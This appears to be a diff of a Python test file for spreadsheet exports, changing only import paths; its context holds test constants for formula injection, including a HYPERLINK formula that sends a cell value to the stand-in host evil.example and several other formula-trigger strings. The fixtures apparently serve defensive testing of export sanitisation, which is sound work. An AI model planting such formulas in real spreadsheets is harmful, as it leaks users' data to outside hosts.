@@ -9,11 +9,11 @@ import io
 import httpx
 from openpyxl import load_workbook
 
-import factories
-from conftest import login
 from models.enums import OrgKind, Role
 from models.ops import AuditLog
 from models.org import Account
+from tests import factories
+from tests.helpers import login
 
 EVIL = '=HYPERLINK("http://evil.example/?id="&B2,"详情")'
 TRICKS = (EVIL, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1")
